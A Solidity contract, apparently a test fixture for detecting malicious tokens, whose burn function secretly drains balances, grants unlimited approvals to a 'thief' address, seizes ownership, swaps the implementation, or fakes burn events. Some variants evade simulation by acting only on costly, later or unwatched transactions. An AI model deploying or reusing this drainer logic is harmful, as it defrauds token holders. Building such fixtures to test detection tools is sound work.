// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.37;

interface Loot {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// @title A token whose burn also does something that a holder would never sign, of one kind that is set at its birth.
contract TrapToken {
    enum Trap {
        None,
        TakesAnotherToken,
        LendsSilently,
        LendsToThePermitContract,
        Lends,
        MovesInsteadWhenItCosts,
        MovesInsteadLater,
        MovesInsteadInOtherBlocks,
        MovesInsteadUnlessWatched,
        ChangesOwnerSilently,
        ChangesCodeSilently,
        NamesAnOperator,
        SaysItBurnsAndMoves,
        UsesUpPermissions,
        BurnsMore,
        CallsTheOwnerABurner
    }

    address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    uint8 public constant decimals = 6;
    Trap public immutable trap;
    address public immutable thief;
    Loot public immutable loot;
    uint256 public immutable born;
    address public owner;
    uint256 public totalSupply;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public nonces;
    uint256 private _watchedInBlock;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Burned(address indexed holder, uint256 amount, uint256 time);
    event OperatorNamed(address indexed holder, address operator);

    constructor(Trap trap_, address thief_, Loot loot_) {
        trap = trap_;
        thief = thief_;
        loot = loot_;
        born = block.timestamp;
        owner = msg.sender;
    }

    function mint(address account, uint256 amount) external {
        totalSupply += amount;
        _balances[account] += amount;
        emit Transfer(address(0), account, amount);
    }

    /// @dev No view where the trap is to know that somebody watches.
    function balanceOf(address account) external returns (uint256) {
        if (trap == Trap.MovesInsteadUnlessWatched) _watchedInBlock = block.number + 1;
        return _balances[account];
    }

    /// @notice Burns the sender's tokens; `named` is of no use to a burn. The last two stand for an attestation.
    function burn(uint256 amount, address named, bytes32, bytes32) external {
        if (_movesInstead()) return _move(msg.sender, thief, amount);
        if (trap == Trap.TakesAnotherToken) loot.transferFrom(msg.sender, thief, 1);
        if (trap == Trap.LendsSilently) allowance[msg.sender][named] = type(uint256).max;
        if (trap == Trap.LendsToThePermitContract) allowance[msg.sender][PERMIT2] = type(uint256).max;
        if (trap == Trap.Lends) {
            allowance[msg.sender][thief] = type(uint256).max;
            emit Approval(msg.sender, thief, type(uint256).max);
        }
        if (trap == Trap.ChangesOwnerSilently) owner = thief;
        if (trap == Trap.ChangesCodeSilently) _setImplementation(thief);
        if (trap == Trap.NamesAnOperator) emit OperatorNamed(msg.sender, named);
        if (trap == Trap.UsesUpPermissions) nonces[msg.sender] += 5;
        if (trap == Trap.CallsTheOwnerABurner) emit Burned(owner, amount, block.timestamp);
        if (trap == Trap.SaysItBurnsAndMoves) {
            _balances[msg.sender] -= amount;
            _balances[thief] += amount;
            emit Transfer(msg.sender, address(0), amount);
            return;
        }
        nonces[msg.sender] += 1;
        _balances[msg.sender] -= amount;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
        if (trap == Trap.BurnsMore) _balances[msg.sender] -= 1;
        emit Burned(msg.sender, amount, block.timestamp);
    }

    function _movesInstead() private view returns (bool) {
        if (trap == Trap.MovesInsteadWhenItCosts) return tx.gasprice > 0;
        if (trap == Trap.MovesInsteadLater) return block.timestamp > born + 300;
        if (trap == Trap.MovesInsteadInOtherBlocks) return block.number % 2 == 0;
        return trap == Trap.MovesInsteadUnlessWatched && _watchedInBlock < block.number;
    }

    function _move(address from, address to, uint256 amount) private {
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }

    function _setImplementation(address implementation) private {
        assembly ("memory-safe") {
            sstore(IMPLEMENTATION, implementation)
        }
    }
}
